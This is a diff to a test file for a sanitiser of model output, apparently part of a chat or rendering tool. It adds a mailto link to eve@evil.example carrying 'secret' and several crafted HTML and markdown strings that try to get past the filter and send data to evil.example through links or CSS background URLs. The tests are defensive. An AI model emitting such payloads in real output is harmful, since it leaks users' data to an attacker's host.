@@ -46,6 +46,7 @@ def shown(text: str) -> str:
         ("<think>Let me see.</think>\n\nYes [1].", " Yes [1]."),
         ("<think>Let me", " "),
         ("Yes <!-- no --> no", "Yes \u2039!-- no --> no"),
+        ("<mailto:eve@evil.example?body=secret [9]>", "\u2039mailto:eve@evil.example?body=secret>"),
     ],
 )
 def test_model_output_is_sanitised(written: str, seen: str) -> None:
@@ -80,6 +81,14 @@ ACTIVE = [
     "<a href=//evil.example/>x</a>",
     "<https://evil.example/?q=secret>",
     "<javascript:alert(1)>",
+    "<https:evil.example/?q=secret<!---->",
+    "<https:evil.example/?q=secret<script>",
+    "<https:evil.example/?q=secret [9]>",
+    "<p <think></think>style='background:url(//evil.example/)'>",
+    "<p<think></think> style='background:url(//evil.example/)'>",
+    "<p<http://evil.example> style='background:url(//evil.example/)'>",
+    "<p](<x>) style='background:url(//evil.example/)'>",
+    "<p[9](>) style='background:url(//evil.example/)'>",
     "` ![x](//evil.example/?q=secret)",
     "```not a fence` ![x](//evil.example/?q=secret)",
     "<div style='background:url(//evil.example/)'>x</div>",
